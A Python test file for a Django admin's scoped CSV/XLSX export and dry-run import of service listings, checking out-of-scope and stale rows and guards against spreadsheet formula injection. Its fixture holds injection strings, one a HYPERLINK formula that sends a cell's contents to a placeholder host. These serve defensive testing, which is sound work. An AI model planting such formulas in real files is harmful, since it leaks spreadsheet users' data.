"""Export the visible listings to CSV/XLSX and import them back with a dry-run preview, scoped."""

import csv
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from import_export.results import RowResult
from openpyxl import load_workbook

from directory.models import Organization
from services.models import Service

CSV_FORMAT, XLSX_FORMAT = "0", "1"

# Text a spreadsheet would run as a formula (a cell starting with CR: tests/directory).
FORMULAS = ['=HYPERLINK("http://x/?"&A1,"Klikni")', "+1", "-2+3", "@SUM(A1)", "\tx"]


def _export(client, file_format=CSV_FORMAT):
    url = reverse("admin:services_service_export")
    form = client.get(url).context["form"]
    data = {name: "on" for name in form.fields if name.startswith("serviceresource_")}
    data.update(resource="0", format=file_format)
    response = client.post(url, data)
    assert response.status_code == 200
    return response


def _rows(response):
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))


def _csv(rows):
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=list(rows[0]))
    writer.writeheader()
    writer.writerows(rows)
    return SimpleUploadedFile("sluzby.csv", out.getvalue().encode(), content_type="text/csv")


def _preview(client, rows):
    return client.post(
        reverse("admin:services_service_import"),
        {"resource": "0", "format": CSV_FORMAT, "import_file": _csv(rows)},
    )


def test_export_holds_only_the_services_in_scope(coordinator_client, world):
    rows = _rows(_export(coordinator_client))
    assert [row["name"] for row in rows] == [world.our_service.name]
    assert rows[0]["types"] == "contact_centre"
    assert rows[0]["version"] == str(world.our_service.version)


def test_export_to_xlsx(coordinator_client, world):
    response = _export(coordinator_client, XLSX_FORMAT)
    assert "spreadsheetml" in response["Content-Type"]
    assert response.content[:2] == b"PK"


@pytest.fixture
def formulas(world):
    """Our service and its organization named and described as formulas; a phone number
    starts with + too."""
    Organization.objects.filter(pk=world.ours.pk).update(name=FORMULAS[0])
    Service.objects.filter(pk=world.our_service.pk).update(
        name=FORMULAS[3],
        summary=FORMULAS[0],
        description=FORMULAS[1],
        cost_note=FORMULAS[2],
        phone="+420 567 000 111",
        referral_process=FORMULAS[4],
        min_age=15,
    )
    return world


def test_csv_export_cells_cannot_run_as_formulas(coordinator_client, formulas):
    response = _export(coordinator_client)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    [row] = _rows(response)
    assert row["organization_name"] == "'" + FORMULAS[0]
    assert row["name"] == "'@SUM(A1)"
    assert [row["summary"], row["description"], row["cost_note"]] == [
        "'" + text for text in FORMULAS[:3]
    ]
    assert row["referral_process"] == "'\tx"
    assert row["phone"] == "'+420 567 000 111"
    assert row["min_age"] == "15"


def test_xlsx_export_cells_cannot_run_as_formulas(coordinator_client, formulas):
    sheet = load_workbook(io.BytesIO(_export(coordinator_client, XLSX_FORMAT).content)).active
    [header, row] = sheet.iter_rows()
    cells = {column.value: cell for column, cell in zip(header, row, strict=True)}
    assert cells["organization_name"].value == "'" + FORMULAS[0]
    assert cells["name"].value == "'@SUM(A1)"
    assert [cells[name].value for name in ("summary", "description", "cost_note")] == [
        "'" + text for text in FORMULAS[:3]
    ]
    assert cells["phone"].value == "'+420 567 000 111"
    assert all(cell.data_type != "f" for cell in row)
    assert (cells["id"].value, cells["min_age"].value) == (formulas.our_service.pk, 15)


def test_an_exported_formula_imports_back_unchanged(coordinator_client, formulas):
    result = _preview(coordinator_client, _rows(_export(coordinator_client))).context["result"]
    assert not result.has_errors() and not result.has_validation_errors()
    assert [row.import_type for row in result.rows] == [RowResult.IMPORT_TYPE_SKIP]


def test_a_quoted_formula_in_an_import_is_stored_without_the_quote(coordinator_client, world):
    rows = _rows(_export(coordinator_client))
    rows[0]["summary"] = "'-2+3"
    preview = _preview(coordinator_client, rows)
    confirm = preview.context["confirm_form"]
    data = {name: confirm[name].value() for name in confirm.fields}
    coordinator_client.post(reverse("admin:services_service_process_import"), data)
    assert Service.objects.get(pk=world.our_service.pk).summary == "-2+3"


def test_import_previews_then_saves_changes_with_history(coordinator_client, world):
    rows = _rows(_export(coordinator_client))
    rows[0]["summary"] = "Z tabulky"
    preview = _preview(coordinator_client, rows)
    assert preview.status_code == 200
    result = preview.context["result"]
    assert not result.has_errors() and not result.has_validation_errors()
    assert Service.objects.get(pk=world.our_service.pk).summary == ""  # only a dry run
    confirm = preview.context["confirm_form"]
    data = {name: confirm[name].value() for name in confirm.fields}
    response = coordinator_client.post(reverse("admin:services_service_process_import"), data)
    assert response.status_code == 302
    service = Service.objects.get(pk=world.our_service.pk)
    assert service.summary == "Z tabulky"
    assert service.history.first().history_user.username == "koordinatorka"


def test_import_refuses_rows_outside_scope(coordinator_client, world):
    rows = _rows(_export(coordinator_client))
    crafted = dict(rows[0], id=str(world.their_service.pk), name="Převzato")
    foreign_org = dict(rows[0], id="", name="Nová cizí", organization_id=str(world.theirs.pk))
    preview = _preview(coordinator_client, [crafted, foreign_org])
    result = preview.context["result"]
    assert result.has_validation_errors()
    assert "confirm_form" not in preview.context or preview.context["confirm_form"] is None
    messages = " ".join(
        str(error) for row in result.invalid_rows for error in row.error_dict.values()
    )
    assert "Žádná z vašich služeb" in messages  # the coordinator reads it in Czech
    assert "nepatří mezi vaše" in messages
    assert Service.objects.get(pk=world.their_service.pk).name == "K-centrum Kyjov"
    assert not Service.objects.filter(name="Nová cizí").exists()


def test_import_refuses_a_row_saved_by_somebody_else_since_the_export(coordinator_client, world):
    rows = _rows(_export(coordinator_client))
    world.our_service.save()  # somebody saved it meanwhile
    rows[0]["summary"] = "Pozdě"
    result = _preview(coordinator_client, rows).context["result"]
    assert result.has_validation_errors()
    assert "version" in result.invalid_rows[0].error_dict


def test_import_rejects_unknown_taxonomy_codes(coordinator_client, world):
    rows = _rows(_export(coordinator_client))
    rows[0]["types"] = "contact_centre,teleportace"
    rows[0]["summary"] = "S neznámým typem"
    preview = _preview(coordinator_client, rows)
    result = preview.context["result"]
    assert result.has_errors() or result.has_validation_errors()
    assert "teleportace" in preview.content.decode()
    assert Service.objects.get(pk=world.our_service.pk).summary == ""


def test_a_phone_changed_in_the_spreadsheet_becomes_the_first_public_contact(
    coordinator_client, world
):
    service = world.our_service
    service.contacts.create(kind="phone", value="+420 567 000 111", purpose="kancelář")
    service.contacts.create(
        kind="phone", value="+420 777 000 999", purpose="pro odborníky", professional_only=True
    )
    rows = _rows(_export(coordinator_client))
    assert rows[0]["phone"] == "'+420 567 000 111"  # the formula guard's quote
    rows[0]["phone"] = "567 000 222"
    confirm = _preview(coordinator_client, rows).context["confirm_form"]
    data = {name: confirm[name].value() for name in confirm.fields}
    assert coordinator_client.post(reverse("admin:services_service_process_import"), data)

    service.refresh_from_db()
    assert service.phone == "+420 567 000 222"
    assert [(c.value, c.purpose) for c in service.contacts.all()] == [
        ("+420 567 000 222", "kancelář"),
        ("+420 777 000 999", "pro odborníky"),
    ]
